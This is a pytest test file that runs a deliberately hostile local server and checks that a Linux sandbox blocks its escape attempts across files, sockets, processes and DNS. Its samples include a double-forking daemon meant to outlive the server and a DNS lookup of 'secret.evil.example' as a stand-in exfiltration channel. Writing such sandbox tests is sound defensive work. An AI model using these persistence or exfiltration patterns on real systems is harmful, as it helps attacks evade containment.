"""A hostile server in its sandbox: each way out gets through without one, and none with."""

from __future__ import annotations

import asyncio
import os
import shlex
import sys
from contextlib import asynccontextmanager
from pathlib import Path

import anyio
import pytest
from escapes import ESCAPES, PRIVILEGED, World

from pml_hookspecs import Endpoint
from pml_testing.transport import Recorder
from pml_transport_stdio import Settings, Stdio

SERVER = str(Path(__file__).with_name("hostile_server.py"))
MIB = 1 << 20
LONG_S = 60.0

pytestmark = [pytest.mark.anyio, pytest.mark.skipif(sys.platform != "linux", reason="the jail is Linux's")]


@pytest.fixture
def world(tmp_path, monkeypatch):
    with World(tmp_path) as world:
        monkeypatch.setenv("HOME", world.names["home"])
        monkeypatch.setenv("PML_SECRET", "secret")
        yield world


@pytest.fixture
def hostile(services, world):
    """``async with hostile(sandbox) as attack``: a server, and what becomes of code that it runs."""

    @asynccontextmanager
    async def hostile(sandbox):
        address = "stdio:" + shlex.join([sys.executable, "-I", "-S", SERVER])
        endpoint = Endpoint(name="hostile", address=address, options={"sandbox": sandbox})
        async with Stdio(Settings(), services).connect(endpoint, Recorder()) as link:

            async def attack(code):
                answer = await link.request("attack", {"code": code, "names": world.names}, timeout_s=LONG_S)
                return answer["said"]

            yield attack

    return hostile


MACHINE = {"connect to a port of the machine", "connect to it by another of its addresses", "send a datagram"}
"""What the network of the machine is."""


def granted(world, **more):
    return {"read": [world.names["read"]], "write": [world.names["write"]], "memory_bytes": 512 * MIB, **more}


async def outcomes(hostile, sandbox):
    said = {}
    async with hostile(sandbox) as attack:
        for name, code in ESCAPES.items():
            said[name] = await attack(code)
    return said


@pytest.mark.attack("Servers", "40 ways out of a local server's sandbox: files, sockets, processes, memory, privileges")
@pytest.mark.parametrize("network", [False, ["localhost:9"], True], ids=["none", "places", "machine"])
async def test_no_way_leads_out_of_the_sandbox(hostile, world, network):
    said = await outcomes(hostile, granted(world, network=network))
    through = MACHINE if network is True else set()
    assert {name for name, what in said.items() if what == "won"} == through
    assert len(said) > 35
    assert world.read("home/.bashrc") == "secret"


async def test_each_way_leads_somewhere_without_a_sandbox_so_that_it_is_one(hostile, world):
    said = await outcomes(hostile, False)
    lost = {name: what for name, what in said.items() if what != "won" and name not in PRIVILEGED}
    assert lost == {}
    assert os.getuid() != 0 or all(said[name] == "won" for name in PRIVILEGED)


WORK = """
import os, pathlib, socket, subprocess, sys, tempfile, threading, asyncio
assert pathlib.Path(read, "kept.txt").read_text() == "secret"
pathlib.Path(write, "new").mkdir()
pathlib.Path(write, "new/a").write_text("a")
os.rename(f"{write}/new/a", f"{write}/b")
assert os.environ["HOME"] == home and os.path.isdir(home)
with tempfile.NamedTemporaryFile() as file:
    file.write(b"x")
assert subprocess.run(["/bin/sh", "-c", "exit 3"]).returncode == 3
assert "PML_SECRET" not in os.environ
asyncio.run(asyncio.sleep(0))
won = True
"""


async def test_what_a_server_does_all_day_works(hostile, world):
    async with hostile(granted(world)) as attack:
        assert await attack(WORK) == "won"
    assert world.read("write/b") == "a"
    assert world.list("home") == [".bashrc", ".pml", ".ssh"]


DAEMON = """
import os
if not os.fork():
    os.setsid()
    if not os.fork():
        os.execve("/bin/sh", ["/bin/sh", "-c", "while :; do sleep 1; done", token], {})
    os._exit(0)
won = os.wait()
"""


def running(token):
    found = []
    for process in Path("/proc").iterdir():
        if process.name.isdigit():
            try:
                words = (process / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if token.encode() in words and b"-c" in words:
                found.append(int(process.name))
    return found


@pytest.mark.attack("Servers", "leave a daemon behind: another session, another parent, no environment to find it by")
@pytest.mark.parametrize("sandbox", [True, False])
async def test_nothing_outlives_a_server_in_a_sandbox(hostile, world, sandbox):
    token = world.names["token"] = f"daemon-{os.getpid()}-{sandbox}"
    async with hostile(sandbox) as attack:
        assert await attack(DAEMON) == "won"
        with anyio.fail_after(LONG_S):
            while not running(token):  # noqa: ASYNC110 - another process has no event
                await anyio.sleep(0.01)
    if sandbox:
        with anyio.fail_after(LONG_S):
            while running(token):  # noqa: ASYNC110 - the same
                await anyio.sleep(0.01)
    else:
        left = running(token)
        assert left
        for process in left:
            os.kill(process, 9)


NAMES = """
import socket
def asked(name):
    try:
        return socket.gethostbyname(name)
    except OSError:
        return ""
won = asked("localhost") and not any(map(asked, ("secret.evil.example", "evil.example")))
"""
TALK = """
import socket
with socket.create_connection(("localhost", tcp), 30) as s:
    s.sendall(b"ping")
    s.shutdown(socket.SHUT_WR)
    won = s.makefile("rb").read() == b"PING" * 50_000
"""


async def test_a_place_that_is_named_is_reached_and_no_other_name_is_known(hostile, world, services):
    async def answer(reader, writer):
        writer.write((await reader.read()).upper() * 50_000)
        await writer.drain()
        writer.close()

    async with await asyncio.start_server(answer, "localhost", 0) as server:
        world.names["tcp"] = server.sockets[0].getsockname()[1]
        async with hostile(granted(world, network=[f"localhost:{world.names['tcp']}"])) as attack:
            assert await attack(TALK) == "won"
            assert await attack(NAMES) == "won"
    refused = [fields["host"] for _, event, fields in services.log.lines if event == "stdio.sandbox_refused"]
    assert "secret.evil.example" in refused


HEARD = "import socket; won = socket.create_connection(('localhost', tcp), 60).recv(1) != b''"


@pytest.mark.attack("Servers", "have a public name lead to this machine, where every public host may be reached")
async def test_a_star_stands_for_public_hosts_only(hostile, world):
    async with hostile(granted(world, network=[f"*:{world.names['tcp']}"])) as attack:
        assert (
            await attack(
                "import socket; s = socket.create_connection(('localhost', tcp), 30); won = s.send(b'x') and s.recv(1)"
            )
            != "won"
        )
